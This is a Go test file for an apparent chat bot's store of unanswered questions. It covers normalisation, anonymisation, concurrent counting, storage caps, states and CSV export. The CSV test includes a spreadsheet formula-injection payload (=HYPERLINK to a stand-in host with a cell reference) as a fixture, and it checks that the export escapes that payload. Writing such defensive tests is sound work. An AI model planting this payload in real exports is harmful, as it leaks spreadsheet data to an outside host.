package store

import (
	"errors"
	"reflect"
	"strings"
	"sync"
	"testing"
	"time"
)

func TestQuestionsAreGroupedByTheirWords(t *testing.T) {
	tests := []struct {
		name, one, other string
		same             bool
	}{
		{"case and punctuation do not count", "Who leads MINUSMA?", "who leads minusma", true},
		{"accents do not count", "Où est Ménaka ?", "ou est menaka", true},
		{"nor the way accents are written", "caf\u00e9", "cafe\u0301", true},
		{"spacing does not count", "who  leads\nit", "who leads it", true},
		{"a mention of the bot does not count", "<@123> who leads it", "who leads it <@!123>", true},
		{"full-width letters are letters", "ＭＩＮＵＳＭＡ", "minusma", true},
		{"other words are another question", "who leads it", "who led it", false},
		{"another order is another question", "does Mali pay France", "does France pay Mali", false},
		{"numbers count", "resolution 2690", "resolution 2100", false},
		{"languages without Latin letters have words", "谁领导特派团", "谁领导法国", false},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			one, other := questionID(test.one), questionID(test.other)
			if (one == other) != test.same || len(one) != 16 {
				t.Errorf("%q has %s, %q has %s", test.one, one, test.other, other)
			}
		})
	}
}

func TestWhatIsKeptOfAQuestion(t *testing.T) {
	tests := []struct{ name, question, want string }{
		{"its words as typed", "Who *leads* MINUSMA?", "Who *leads* MINUSMA?"},
		{"no mention of the bot, a member, a role or a channel", "<@1> ask <@!22> and <@&333> in <#4> who?", "ask and in who?"},
		{"one line", "who\nleads\t it", "who leads it"},
		{"not more than a line's worth", strings.Repeat("é", 301), strings.Repeat("é", 300) + "…"},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			if got := anonymous(test.question); got != test.want {
				t.Errorf("anonymous(%q) = %q; want %q", test.question, got, test.want)
			}
		})
	}
}

func TestGapsAreCounted(t *testing.T) {
	onBoth(t, func(t *testing.T, p place) {
		s, ctx := p.open(t), t.Context()
		check(t, s.Gaps.Record(ctx, "g", "Who pays?", "a#1", Asker(1), noon))
		check(t, s.Gaps.Record(ctx, "g", "who leads it", "", Asker(1), noon.Add(2*time.Hour)))
		check(t, s.Gaps.Record(ctx, "g", "<@5> who PAYS", "b#2", Asker(1), noon.Add(time.Hour)))
		check(t, s.Gaps.Record(ctx, "other", "who pays", "c#3", Asker(1), noon))
		want := []Gap{
			{ID: questionID("who pays"), Question: "Who pays?", Asked: 2, Askers: Asker(1), First: noon, Last: noon.Add(time.Hour), Nearest: "b#2", State: GapOpen},
			{ID: questionID("who leads it"), Question: "who leads it", Asked: 1, Askers: Asker(1), First: noon.Add(2 * time.Hour), Last: noon.Add(2 * time.Hour), State: GapOpen},
		}
		if got := must(s.Gaps.List(ctx, "g", GapOpen, 10))(t); !reflect.DeepEqual(got, want) {
			t.Errorf("gaps %+v\nwant %+v", got, want)
		}
		if got := must(s.Gaps.List(ctx, "g", GapOpen, 1))(t); len(got) != 1 || got[0].Asked != 2 {
			t.Errorf("the first gap is %+v; want the one asked twice", got)
		}
		if got := must(s.Gaps.Guilds(ctx))(t); !reflect.DeepEqual(got, []string{"g", "other"}) {
			t.Errorf("servers with gaps: %v", got)
		}
	})
}

func TestGapsAskedAtOnceAreAllCounted(t *testing.T) {
	onBoth(t, func(t *testing.T, p place) {
		stores := []*Store{p.open(t), p.open(t)}
		var all sync.WaitGroup
		for i := range 40 {
			all.Go(func() {
				if err := stores[i%2].Gaps.Record(t.Context(), "g", "who pays?", "", Asker(1), noon); err != nil {
					t.Error(err)
				}
			})
		}
		all.Wait()
		if got := must(stores[0].Gaps.List(t.Context(), "g", GapOpen, 10))(t); len(got) != 1 || got[0].Asked != 40 {
			t.Errorf("gaps %+v; want one, asked 40 times", got)
		}
	})
}

func TestWhatIsNotKept(t *testing.T) {
	onBoth(t, func(t *testing.T, p place) {
		s, ctx := p.open(t), t.Context()
		_, err := s.UpdateSettings(ctx, "quiet", func(now *Settings) error { now.NoGaps = true; return nil })
		check(t, err)
		check(t, s.Gaps.Record(ctx, "quiet", "who pays", "", Asker(1), noon)) // switched off
		check(t, s.Gaps.Record(ctx, "", "who pays", "", Asker(1), noon))      // a direct message
		check(t, s.Gaps.Record(ctx, "g", "<@1> ?!", "", Asker(1), noon))      // no words
		check(t, s.Gaps.Record(ctx, "g", "aaaa AA a?", "", Asker(1), noon))   // one letter
		if got := must(s.Gaps.Guilds(ctx))(t); len(got) != 0 {
			t.Errorf("gaps were kept for %q", got)
		}
	})
}

func TestGapsHaveStates(t *testing.T) {
	id := questionID("who pays")
	tests := []struct {
		name  string
		set   GapState
		again bool // asked again afterwards
		want  Gap
	}{
		{"done", GapDone, false, Gap{State: GapDone, Asked: 1}},
		{"done stays done, but is counted", GapDone, true, Gap{State: GapDone, Asked: 2}},
		{"answered by a passage", GapAnswered, false, Gap{State: GapAnswered, Asked: 1, Answer: "a#1"}},
		{"answered, and then not again, is open", GapAnswered, true, Gap{State: GapOpen, Asked: 2}},
		{"reopened", GapOpen, false, Gap{State: GapOpen, Asked: 1}},
	}
	onBoth(t, func(t *testing.T, p place) {
		s, ctx := p.open(t), t.Context()
		for _, test := range tests {
			t.Run(test.name, func(t *testing.T) {
				check(t, s.Gaps.Record(ctx, test.name, "who pays", "", Asker(1), noon))
				check(t, s.Gaps.Set(ctx, test.name, id, test.set, "a#1"))
				if test.again {
					check(t, s.Gaps.Record(ctx, test.name, "who pays", "", Asker(1), noon))
				}
				test.want.ID, test.want.Question, test.want.First, test.want.Last, test.want.Askers = id, "who pays", noon, noon, Asker(1)
				if got := must(s.Gaps.List(ctx, test.name, test.want.State, 10))(t); !reflect.DeepEqual(got, []Gap{test.want}) {
					t.Errorf("gaps %+v; want %+v", got, test.want)
				}
			})
		}
		if err := s.Gaps.Set(ctx, "other", id, GapDone, ""); !errors.Is(err, ErrNotFound) {
			t.Errorf("another server changes a gap: %v; want ErrNotFound", err)
		}
	})
}

func TestNobodyFillsTheDiskWithQuestions(t *testing.T) {
	onBoth(t, func(t *testing.T, p place) {
		s, ctx := p.open(t), t.Context()
		must(s.db.exec(ctx, "fill", `WITH RECURSIVE n (i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < $1)
			INSERT INTO gaps SELECT 'g', CAST(i AS TEXT), '?', 1, 1, 1, '', 'open', '', 0 FROM n`, maxGaps))(t)
		check(t, s.Gaps.Record(ctx, "g", "one too many", "", Asker(1), noon))
		if got := must(s.Gaps.List(ctx, "g", GapOpen, 2*maxGaps))(t); len(got) != maxGaps {
			t.Errorf("%d gaps are kept; want %d", len(got), maxGaps)
		}
	})
}

func TestGapsAsCSV(t *testing.T) {
	gaps := []Gap{
		{Question: `Who said "no", and why?`, Asked: 2, First: noon, Last: noon.Add(time.Hour), Nearest: "a#1", State: GapOpen},
		{Question: `=HYPERLINK("http://x/"&A1)`, Asked: 1, First: noon, Last: noon, State: GapAnswered, Answer: "b#2"},
	}
	want := "question,asked,first asked,last asked,nearest passage,state,answered by\n" +
		"\"Who said \"\"no\"\", and why?\",2,2026-11-23T12:00:00Z,2026-11-23T13:00:00Z,a#1,open,\n" +
		"\"'=HYPERLINK(\"\"http://x/\"\"&A1)\",1,2026-11-23T12:00:00Z,2026-11-23T12:00:00Z,,answered,b#2\n"
	var got strings.Builder
	check(t, WriteGaps(&got, gaps))
	if got.String() != want {
		t.Errorf("CSV\n%s\nwant\n%s", got.String(), want)
	}
}
